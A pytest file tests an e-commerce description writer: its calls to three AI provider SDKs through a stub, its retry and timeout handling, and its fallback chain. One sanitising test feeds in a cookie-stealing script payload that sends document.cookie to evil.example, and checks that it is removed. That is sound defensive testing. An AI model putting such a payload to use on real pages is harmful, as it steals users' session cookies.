"""The provider writers through the real SDKs, against the stub, and fallback."""

import json
import socket
import time

import pytest

from commerce.descriptions.chain import write_with_fallback
from commerce.descriptions.errors import (
    NoWriterSucceeded,
    OutputRejected,
    WriterFailed,
    WriterRateLimited,
)
from commerce.descriptions.offline import OfflineWriter
from commerce.descriptions.request import Options, WriteRequest
from commerce.descriptions.writers import _provider_class
from tests.commerce.descriptions.conftest import TEST_KEYS, settings_for
from tests.commerce.descriptions.stubs import GOOD_TEXTS, answer, fail, hang

PROVIDERS = ("anthropic", "openai", "google")
REQUEST = WriteRequest(
    {"title": "Stoneware Mug", "tags": ["kitchen"]},
    Options().validated(),
    brand_voice="Warm and unfussy.",
)


def writer_for(settings, name):
    return _provider_class(name)(
        settings.provider(name), TEST_KEYS[name], timeout=settings.timeout,
        max_output_tokens=settings.max_output_tokens,
    )  # fmt: skip


def chain(settings, *names, offline=False):
    writers = [writer_for(settings, n) for n in names]
    return writers + [OfflineWriter()] if offline else writers


@pytest.mark.parametrize("name", PROVIDERS)
def test_each_provider_answers_through_its_sdk(stub, ai_settings, name):
    stub.plan(name, answer(tokens_in=321, tokens_out=123))
    reply = writer_for(ai_settings, name).write(REQUEST)

    assert json.loads(reply.text) == GOOD_TEXTS
    assert (reply.tokens_in, reply.tokens_out) == (321, 123)
    [sent] = stub.captured(name)
    body = sent.body.decode()
    assert "Warm and unfussy." in body and "Stoneware Mug" in body
    assert "exactly these string keys" in body
    assert TEST_KEYS[name] not in body
    headers = {k.lower(): v for k, v in sent.headers.items()}
    auth = headers.get("authorization", "") + headers.get("x-goog-api-key", "")
    assert TEST_KEYS[name] in auth


def test_each_provider_is_asked_for_json_within_the_token_limit(stub, ai_settings):
    for name in PROVIDERS:
        writer_for(ai_settings, name).write(REQUEST)

    anthropic, openai, google = (stub.captured(n)[0].json for n in PROVIDERS)
    assert (
        anthropic["max_tokens"] == 2000 and anthropic["model"] == "stub-anthropic-model"
    )
    assert openai["response_format"] == {"type": "json_object"}
    assert openai["max_completion_tokens"] == 2000
    assert google["generationConfig"]["responseMimeType"] == "application/json"
    assert google["generationConfig"]["maxOutputTokens"] == 2000
    assert stub.captured("google")[0].path.endswith("stub-google-model:generateContent")


@pytest.mark.parametrize("name", PROVIDERS)
def test_a_server_error_is_a_writer_failure(stub, ai_settings, name):
    stub.plan(name, fail(500))
    with pytest.raises(WriterFailed, match="HTTP 500") as caught:
        writer_for(ai_settings, name).write(REQUEST)
    assert caught.value.status == 500
    assert stub.count(name) == 1  # the SDK did not retry on its own


@pytest.mark.parametrize("name", PROVIDERS)
def test_a_429_carries_its_retry_after(stub, ai_settings, name):
    stub.plan(name, fail(429, retry_after="1"))
    with pytest.raises(WriterRateLimited) as caught:
        writer_for(ai_settings, name).write(REQUEST)
    assert caught.value.retry_after == 1.0


@pytest.mark.parametrize("name", PROVIDERS)
def test_a_slow_provider_times_out(stub, name):
    settings = settings_for(stub, timeout=0.3)
    stub.plan(name, hang(5))

    started = time.monotonic()
    with pytest.raises(WriterFailed, match=r"no answer in 0.3s"):
        writer_for(settings, name).write(REQUEST)
    assert time.monotonic() - started < 2


@pytest.mark.parametrize("name", PROVIDERS)
def test_an_unreachable_provider_is_a_writer_failure(name):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]

    class Closed:
        url = f"http://127.0.0.1:{port}"

    with pytest.raises(WriterFailed, match="could not connect"):
        writer_for(settings_for(Closed), name).write(REQUEST)


@pytest.mark.parametrize("name", PROVIDERS)
def test_an_answer_cut_off_at_the_token_limit_is_refused(stub, ai_settings, name):
    stub.plan(name, answer(truncated=True))
    with pytest.raises(OutputRejected, match="cut off"):
        writer_for(ai_settings, name).write(REQUEST)


def test_a_short_retry_after_is_waited_out_once(stub, ai_settings):
    stub.plan("anthropic", fail(429, retry_after="1"))
    waits = []

    outcome = write_with_fallback(
        chain(ai_settings, "anthropic", "openai"), REQUEST, retry_cap=2,
        sleep=waits.append,
    )  # fmt: skip

    assert outcome.writer.name == "anthropic" and waits == [1.0]
    assert stub.count("anthropic") == 2 and stub.count("openai") == 0


def test_a_long_or_repeated_429_moves_on_without_waiting(stub, ai_settings):
    stub.plan("anthropic", fail(429, retry_after="30"))
    stub.plan("openai", fail(429, retry_after="1"), fail(429, retry_after="1"))
    waits = []

    outcome = write_with_fallback(
        chain(ai_settings, *PROVIDERS), REQUEST, retry_cap=2, sleep=waits.append
    )

    assert outcome.writer.name == "google"
    assert waits == [1.0]
    assert [f.writer for f in outcome.failures] == ["anthropic", "openai"]


def test_fallback_follows_the_order_and_ends_with_the_offline_writer(stub):
    settings = settings_for(stub, timeout=0.5)
    stub.plan("anthropic", fail(503))
    stub.plan("openai", hang(5))
    stub.plan("google", answer(raw="Sure! Here is a lovely description."))

    outcome = write_with_fallback(
        chain(settings, *PROVIDERS, offline=True), REQUEST, retry_cap=2
    )

    assert outcome.writer.name == "offline"
    assert [type(f).__name__ for f in outcome.failures] == [
        "WriterFailed", "WriterFailed", "OutputRejected",
    ]  # fmt: skip
    assert [r.provider for r in stub.requests] == list(PROVIDERS)
    assert outcome.texts.seo_title == "Stoneware Mug"


def test_overlong_output_falls_through_to_the_next_writer(stub, ai_settings):
    stub.plan("anthropic", answer({**GOOD_TEXTS, "seo_title": "x" * 71}))

    outcome = write_with_fallback(
        chain(ai_settings, "anthropic", "openai"), REQUEST, retry_cap=2
    )
    assert outcome.writer.name == "openai"
    assert "seo_title has 71 characters" in str(outcome.failures[0])


def test_script_in_a_provider_answer_is_removed(stub, ai_settings):
    evil = (
        "<p>Lovely<script>fetch('https://evil.example/'+document.cookie)</script></p>"
    )
    stub.plan("google", answer({**GOOD_TEXTS, "description_html": evil}))

    outcome = write_with_fallback(chain(ai_settings, "google"), REQUEST, retry_cap=2)
    assert outcome.texts.description_html == "<p>Lovely</p>"


def test_no_writer_succeeded_lists_every_failure(stub, ai_settings):
    for name in PROVIDERS:
        stub.plan(name, fail(500))
    with pytest.raises(NoWriterSucceeded) as caught:
        write_with_fallback(chain(ai_settings, *PROVIDERS), REQUEST, retry_cap=2)
    assert [f.writer for f in caught.value.failures] == list(PROVIDERS)
